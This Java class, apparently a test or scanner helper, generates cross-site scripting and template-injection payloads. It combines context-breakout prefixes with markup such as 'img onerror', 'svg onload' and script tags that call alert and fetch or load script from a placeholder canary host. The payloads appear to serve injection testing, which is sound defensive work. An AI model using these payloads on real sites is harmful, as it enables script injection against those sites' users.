package org.uplink.access;

import static java.util.Comparator.comparingInt;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/** Words that run, or leave a mark, where a page shows them as markup. Each asks for a dialog and for an address of elsewhere. */
final class Payloads {

    private static final String RUN = "alert(1);fetch('//canary.example')";

    /** The ways out of where a text may stand. */
    private static final List<String> OUT = List.of(
            "",
            "\">",
            "'>",
            "</textarea>",
            "</title>",
            "</script>",
            "-->",
            "]]>",
            "</style>",
            "</option></select>",
            "\\\">");

    private static final List<String> MARKUP = List.of(
            "<img src=x onerror=%s>",
            "<svg onload=%s>",
            "<script>%s</script>",
            "<script src=//canary.example/x.js></script>",
            "<iframe srcdoc='<script>%s</script>'></iframe>",
            "<details open ontoggle=%s>",
            "<input autofocus onfocus=%s>",
            "<video><source onerror=%s></video>",
            "<body onload=%s>",
            "<a href=javascript:%s>x</a>",
            "<math><mi xlink:href=javascript:%s>x</mi></math>",
            "<object data=//canary.example></object>",
            "<embed src=//canary.example>",
            "<form action=//canary.example><button>x</button></form>",
            "<base href=//canary.example>",
            "<style>@import '//canary.example';</style>",
            "<link rel=stylesheet href=//canary.example>",
            "<x-canary>%s</x-canary>");

    private static final List<String> ATTRIBUTES = List.of(
            "\" x-canary=1 onmouseover=\"%s",
            "' x-canary=1 onfocus='%s",
            " x-canary=1 onload=%s ",
            "javascript:%s",
            "java\tscript:%s",
            "data:text/html,<script>%s</script>",
            "{page.raw}{%s}",
            "${%s}",
            "{{constructor.constructor('%s')()}}",
            "[x](javascript:%s)",
            "![x](x\" onerror=\"%s)",
            "<noscript><p title=\"</noscript><img src=x onerror=%s>\">",
            "\u2028<img src=x onerror=%s>",
            "&lt;img src=x onerror=%s&gt;",
            "&#60;img src=x onerror=%s&#62;",
            "\\u003cimg src=x onerror=%s\\u003e");

    private Payloads() {}

    static List<String> all() {
        var all = new ArrayList<String>();
        OUT.forEach(out -> MARKUP.forEach(markup -> all.add(out + markup.formatted(RUN))));
        ATTRIBUTES.forEach(attribute -> all.add(attribute.formatted(RUN)));
        return all;
    }

    /** For where no other fits. */
    static String shortest() {
        return all().stream().min(comparingInt(String::length)).orElseThrow();
    }

    /** Some of them in one text, beginning with another for each number. */
    static String some(int number, int many) {
        var all = all();
        return Stream.iterate(number * many, at -> at + 1)
                .limit(many)
                .map(at -> all.get(at % all.size()))
                .reduce("", String::concat);
    }
}
